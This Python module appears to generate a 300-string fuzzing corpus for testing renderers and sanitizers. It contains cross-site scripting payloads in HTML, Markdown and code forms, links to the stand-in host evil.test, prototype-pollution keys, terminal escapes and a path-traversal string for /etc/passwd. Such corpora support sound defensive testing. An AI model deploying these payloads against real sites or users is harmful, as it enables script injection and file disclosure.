"""300 strings that act where somebody takes text for something else."""

_ACT = "alert(1)"
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src='x' onerror=\"{}\">",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    '<iframe srcdoc="<script>parent.{}</script>">',
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{} form=f>x</button>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(//evil.test/{})}}</style>",
    "<link rel=stylesheet href=//evil.test/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.test/{}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<xmp><script>{}</script></xmp>",
    "<plaintext><script>{}</script>",
    "<marquee onstart={}>",
    "<isindex onfocus={} autofocus>",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](\x01javascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "[x](<javascript:{}>)",
    '[x](https://evil.test/"onmouseover="{})',
    "![x](javascript:{})",
    "![x](https://evil.test/{}.png)",
    "![x](//evil.test/{}.png)",
    '<https://evil.test/" onclick="{}>',
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "```html\n<script>{}</script>\n```",
    '```"><script>{}</script>\nx\n```',
    "`</code><script>{}</script>`",
    "| <script>{}</script> | b |\n|---|---|\n| <img src=x onerror={}> | d |",
    "# <img src=x onerror={}>",
    "> <svg onload={}>",
    "- [ ] <script>{}</script>",
    "**<b onmouseover={}>bold**",
    "~~<script>{}</script>~~",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\<script>{}\\</script>",
)
_CODE = (
    "';{};//",
    '";{};//',
    "`;{};//",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u2028{}\u2029",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{{"__proto__": {{"html": "<script>{}</script>"}}}}',
    '{{"dangerouslySetInnerHTML": {{"__html": "<img src=x onerror={}>"}}}}',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "blob:{}",
    "--><script>{}</script>",
    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[31m{}",
    "\x00<script>{}</script>",
    "\u202e)1(trela\u202c {}",
    "\u200b<script>{}</script>",
    "<scr\u200bipt>{}</script>",
    "\ufeff<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\U0001f4a9" * 50 + "{}",
    "Z" + "\u0338" * 200 + "{}",
    "a" * 5000 + "<script>{}</script>",
    ("<b>" * 300) + "{}",
    ("> " * 300) + "{}",
    ("[" * 300) + "{}",
    ("*" * 300) + "{}",
    ("`" * 299) + "{}",
    "../../../../etc/passwd?{}",
    "C:\\<script>{}</script>",
    "//evil.test/{}",
    "@@ -1 +1 @@\n-<script>{}</script>\n+<img src=x onerror={}>",
    "--- a/<script>{}</script>\n+++ b/x\n@@ -1 +1 @@\n-a\n+b",
)


def list_strings() -> list[str]:
    """Each form as it is, without parentheses, amid other text, and after what would end an attribute."""
    forms = [
        form.replace("{}", _ACT).replace("{{", "{").replace("}}", "}")
        for form in (*_MARKUP, *_MARKDOWN, *_CODE)
    ]
    # Without parentheses too: an address in Markdown ends at the first of them.
    mixed = [
        form.replace("script", "ScRiPt").replace("onerror", "oNeRrOr").replace(_ACT, "alert`1`")
        for form in forms
    ]
    inside = [f"Before {form} after\n\n{form}" for form in forms]
    broken = [f"\"'/>{form}" for form in forms]
    return [*dict.fromkeys((*forms, *mixed, *inside, *broken))][:300]
